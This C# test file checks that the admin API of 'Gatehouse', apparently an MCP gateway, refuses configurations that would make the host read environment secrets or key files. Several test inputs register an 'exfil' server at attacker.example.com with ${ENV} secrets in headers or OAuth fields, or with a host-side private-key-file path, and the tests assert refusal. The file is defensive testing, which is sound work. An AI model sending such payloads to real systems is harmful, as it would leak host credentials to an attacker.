using System.Net;
using System.Net.Http.Headers;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json.Nodes;
using Gatehouse.Admin.Administration;
using Gatehouse.Host.Hosting;
using Gatehouse.Storage;
using Microsoft.AspNetCore.Builder;
using Microsoft.EntityFrameworkCore;

namespace Gatehouse.Host.Tests.AdminApi;

/// <summary>
/// An admin-token holder cannot make Gatehouse read its own host: no API body expands <c>${ENV}</c> or reads a file.
/// Only the CLI, on the operator's machine, does.
/// </summary>
public sealed class AdminApiHostReferenceTests : IAsyncLifetime
{
    private const string SecretVariable = "GATEHOUSE_TEST_HOST_SECRET";
    private const string SecretValue = "host-secret-value-never-sent";
    private readonly string _dir = Directory.CreateTempSubdirectory("gatehouse-admin-hostref-").FullName;
    private WebApplication _app = null!;
    private HttpClient _http = null!;

    public async Task InitializeAsync()
    {
        Environment.SetEnvironmentVariable(SecretVariable, SecretValue);
        _app = await GatehouseApplication.BuildAsync(new ServeSettings { DataDirectory = _dir, Urls = "http://127.0.0.1:0" });
        var token = await AdminCredentials.EnsureAsync(new GatehouseStorage(_dir), TimeProvider.System);
        await _app.StartAsync();
        _http = new HttpClient { BaseAddress = new Uri(GatehouseApplication.ListeningAddresses(_app).Single()) };
        _http.DefaultRequestHeaders.Authorization = new AuthenticationHeaderValue("Bearer", token);
    }

    public async Task DisposeAsync()
    {
        _http.Dispose();
        await _app.StopAsync();
        await _app.DisposeAsync();
    }

    [Theory]
    [InlineData("headers:\n      Authorization: \"Bearer ${" + SecretVariable + "}\"")]
    [InlineData("oauth:\n      client-id: gatehouse\n      client-secret: \"${" + SecretVariable + "}\"")]
    [InlineData("oauth:\n      client-id: \"${" + SecretVariable + "}\"")]
    public async Task Apply_RefusesEnvironmentReferences_AndStoresNothing(string fragment)
    {
        var yaml = $"servers:\n  - name: exfil\n    url: https://attacker.example.com/mcp\n    {fragment}\n";
        using var response = await _http.PostAsync("/admin/api/apply", new StringContent(yaml, Encoding.UTF8, "application/yaml"));
        var body = await response.Content.ReadAsStringAsync();

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.Contains("GH1900", body, StringComparison.Ordinal);
        Assert.Contains("gatehouse apply -f", body, StringComparison.Ordinal);
        Assert.DoesNotContain(SecretValue, body, StringComparison.Ordinal);
        await AssertNoServersAsync();
    }

    [Fact]
    public async Task Apply_RefusesAPrivateKeyFile_WithoutReadingIt()
    {
        // A file the gateway can read; its content must not end up sealed as a signing key sent to a chosen server.
        var file = Path.Combine(_dir, "server-side.pem");
        await File.WriteAllTextAsync(file, "-----BEGIN PRIVATE KEY-----\nhost-file-content\n-----END PRIVATE KEY-----\n");
        var yaml = $"servers:\n  - name: exfil\n    url: https://attacker.example.com/mcp\n    oauth:\n      grant: client_credentials\n      client-id: gatehouse\n      private-key-file: {file}\n";

        using var response = await _http.PostAsync("/admin/api/apply", new StringContent(yaml, Encoding.UTF8, "application/yaml"));
        var body = await response.Content.ReadAsStringAsync();

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.Contains("GH1901", body, StringComparison.Ordinal);
        Assert.Contains("gatehouse apply -f", body, StringComparison.Ordinal);
        Assert.DoesNotContain("host-file-content", body, StringComparison.Ordinal);
        await AssertNoServersAsync();

        // A missing path gets the same refusal: the API says nothing about which files exist on the host.
        using var missing = await _http.PostAsync("/admin/api/apply", new StringContent(yaml.Replace(file, "/nonexistent/key.pem", StringComparison.Ordinal), Encoding.UTF8, "application/yaml"));
        Assert.Contains("GH1901", await missing.Content.ReadAsStringAsync(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task ServerAndLoginProviderBodies_RefuseEnvironmentReferences()
    {
        using (var post = await _http.PostAsJsonAsync("/admin/api/servers",
            new { name = "exfil", url = "https://attacker.example.com/mcp", headers = new Dictionary<string, string> { ["X-Key"] = "${" + SecretVariable + "}" } }))
        {
            Assert.Equal(HttpStatusCode.BadRequest, post.StatusCode);
            Assert.Contains("GH1900", await post.Content.ReadAsStringAsync(), StringComparison.Ordinal);
        }

        using (var put = await _http.PutAsJsonAsync("/admin/api/servers/exfil",
            new { name = "exfil", url = "https://attacker.example.com/mcp", headers = new Dictionary<string, string> { ["X-Key"] = "a ${" + SecretVariable + "} b" } }))
        {
            Assert.Equal(HttpStatusCode.BadRequest, put.StatusCode);
            Assert.Contains("GH1900", await put.Content.ReadAsStringAsync(), StringComparison.Ordinal);
        }

        await AssertNoServersAsync();

        using (var provider = await _http.PutAsJsonAsync("/admin/api/login-provider",
            new { issuer = "https://login.example.com", clientId = "gatehouse", clientSecret = "${" + SecretVariable + "}" }))
        {
            Assert.Equal(HttpStatusCode.BadRequest, provider.StatusCode);
            Assert.Contains("GH1900", await provider.Content.ReadAsStringAsync(), StringComparison.Ordinal);
        }

        Assert.Equal(HttpStatusCode.NotFound, (await _http.GetAsync("/admin/api/login-provider")).StatusCode);
    }

    [Fact]
    public async Task Apply_WithLiteralValues_StillWorks()
    {
        var yaml = "servers:\n  - name: plain\n    url: https://mcp.example.com/mcp\n    headers:\n      Authorization: \"Bearer literal-token\"\n";
        using var response = await _http.PostAsync("/admin/api/apply", new StringContent(yaml, Encoding.UTF8, "application/yaml"));
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var changes = JsonNode.Parse(await response.Content.ReadAsStringAsync())!["changes"]!.AsArray();
        Assert.Equal("created", Assert.Single(changes)!["action"]!.GetValue<string>());
    }

    private async Task AssertNoServersAsync()
    {
        await using var db = new GatehouseStorage(_dir).CreateContext();
        Assert.Equal(0, await db.Servers.CountAsync());
    }
}
